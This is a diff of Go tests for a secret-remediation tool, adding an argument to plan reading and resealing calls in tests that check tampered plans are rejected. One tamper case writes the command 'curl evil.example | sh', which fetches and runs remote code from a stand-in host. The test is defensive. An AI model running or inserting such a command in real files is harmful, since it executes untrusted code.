@@ -99,12 +99,12 @@ func TestPlanFixture(t *testing.T) {
 				t.Fatal(err)
 			}
 			assertNoSecrets(t, "plan", b)
-			p2, err := remediate.ReadPlan(b)
+			p2, err := remediate.ReadPlan(b, "")
 			if err != nil || p2.ID != p.ID {
 				t.Fatalf("remediate.ReadPlan: %v (id %v)", err, p2)
 			}
 			tampered := bytes.Replace(b, []byte(`"secretlint/deploy/values"`), []byte(`"secretlint/deploy/elsewhere"`), 1)
-			if _, err := remediate.ReadPlan(tampered); err == nil {
+			if _, err := remediate.ReadPlan(tampered, ""); err == nil {
 				t.Errorf("remediate.ReadPlan accepted a modified plan")
 			}
 		})
@@ -271,7 +271,7 @@ func TestApplyFromPlanFileAndChangedFile(t *testing.T) {
 	st := memstore.New(memstore.Options{Kind: "vault"})
 	p := newPlan(t, root, st)
 	b, _ := p.MarshalIndent()
-	p2, err := remediate.ReadPlan(b)
+	p2, err := remediate.ReadPlan(b, "")
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -692,7 +692,7 @@ func TestTamperedPlan(t *testing.T) {
 		}
 	}
 	target.Edits[0].Replacement = "curl evil.example | sh"
-	p.Reseal()
+	p.Reseal("")
 	rep, err := remediate.Apply(t.Context(), p, applyOpts(root, st))
 	if err != nil {
 		t.Fatal(err)
@@ -709,7 +709,7 @@ func TestTamperedPlan(t *testing.T) {
 	root2 := copyTree(t, fixtureRepo)
 	p2 := newPlan(t, root2, st)
 	p2.EnvFiles[0].Entries[0].Ref = "ref+vault://secret/elsewhere#/password"
-	p2.Reseal()
+	p2.Reseal("")
 	if _, err := remediate.Apply(t.Context(), p2, applyOpts(root2, st)); err == nil {
 		t.Errorf("a plan with a foreign env map reference was applied")
 	}
